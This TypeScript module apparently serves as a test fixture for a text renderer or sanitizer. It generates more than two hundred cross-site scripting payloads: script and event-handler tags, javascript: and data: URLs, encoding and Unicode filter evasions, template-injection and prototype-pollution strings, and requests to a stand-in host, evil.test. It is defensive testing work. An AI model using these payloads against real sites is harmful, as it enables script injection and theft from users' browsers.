// Texts that would run a script or fetch something, were they ever taken for anything but text.

/** The host that must never be asked for anything. */
export const EVIL = 'http://evil.test'

/** What a script of a payload would call. */
export const RAN = '__ran'

const RUN = `${RAN}(1)`

const elements = [
  `<script>${RUN}</script>`,
  `<script src=${EVIL}/a.js></script>`,
  `<script>/*<script>*/${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${EVIL}/a.png>`,
  `<img srcset="${EVIL}/a.png 1x">`,
  `<image src=x onerror=${RUN}>`,
  `<picture><source srcset=${EVIL}/p.png><img></picture>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="${EVIL}/u.svg#a"/></svg>`,
  `<svg><image href=${EVIL}/i.png /></svg>`,
  `<svg><set attributeName=onload to=${RUN}></svg>`,
  `<svg/onload=${RUN}//`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src=${EVIL}/f></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data=${EVIL}/o></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src=${EVIL}/e>`,
  `<video src=${EVIL}/v onerror=${RUN}></video>`,
  `<video poster=${EVIL}/p.png></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<body onload=${RUN}>`,
  `<body background=${EVIL}/b.png>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<button popovertarget=x onclick=${RUN}>x</button><p popover id=x onbeforetoggle=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<link rel=stylesheet href=${EVIL}/s.css>`,
  `<link rel=prefetch href=${EVIL}/pre>`,
  `<link rel=dns-prefetch href=//evil.test>`,
  `<style>@import '${EVIL}/i.css';</style>`,
  `<style>*{background:url(${EVIL}/b)}</style>`,
  `<p style="background:url(${EVIL}/bg)">x</p>`,
  `<p style="animation:x" onanimationstart=${RUN}>x</p>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/r">`,
  `<base href=${EVIL}/>`,
  `<form action=${EVIL}/f><button autofocus onfocus=${RUN}>x</button></form>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<a ping=${EVIL}/ping href=/>x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<title><a title="</title><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<x-y onclick=${RUN} style=display:block;position:fixed;inset:0>x</x-y>`,
  `<div contenteditable autofocus onfocus=${RUN}>x</div>`,
  `<table background=${EVIL}/t.png>`,
  `<portal src=${EVIL}/p>`,
  `<bgsound src=${EVIL}/s>`,
]

/** Ways out of where a text might be put: an attribute, a comment, a script, a page's own data. */
const before = ['', '">', "'>", '--></textarea></title></style></script></noscript>']

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3JhbigxKTwvc2NyaXB0Pg==`,
  `vbscript:${RUN}`,
  `//evil.test/x`,
  `http://user@evil.test/"onmouseover="${RUN}`,
  `https://evil.test/' onfocus=${RUN} autofocus '`,
  `[x](javascript:${RUN})`,
  `![x](${EVIL}/md.png)`,
  `<javascript:${RUN}>`,
]

const others = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `"-${RUN}-"`,
  `'-${RUN}-'`,
  `\\";${RUN};//`,
  `\u2028${RUN}\u2029`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `<scr\u200bipt>${RUN}</scr\u200bipt>`,
  `<ſcript>${RUN}</ſcript>`,
  `<scrıpt>${RUN}</scrıpt>`,
  `शनि<img src=x onerror=${RUN}>शनि`,
  `<img src=x onerror=&#95;&#95;ran(1)>`,
  `__proto__[onerror]=${RUN}`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
]

/** More than two hundred, no two alike. */
export const payloads: readonly string[] = [
  ...new Set([...before.flatMap((way) => elements.map((element) => way + element)), ...addresses, ...others]),
]

/**
 * Texts of at most so many characters with all payloads between them, so that many are looked at together: a text that is
 * shown letter by letter shows each of its payloads so. Longer payloads are cut.
 */
export const texts = (length: number): string[] => {
  const made: string[] = []
  for (const payload of payloads.map((one) => one.slice(0, length).trim())) {
    const at = made.findIndex((text) => text.length + 1 + payload.length <= length)
    if (at < 0) made.push(payload)
    else made[at] += ` ${payload}`
  }
  return made
}
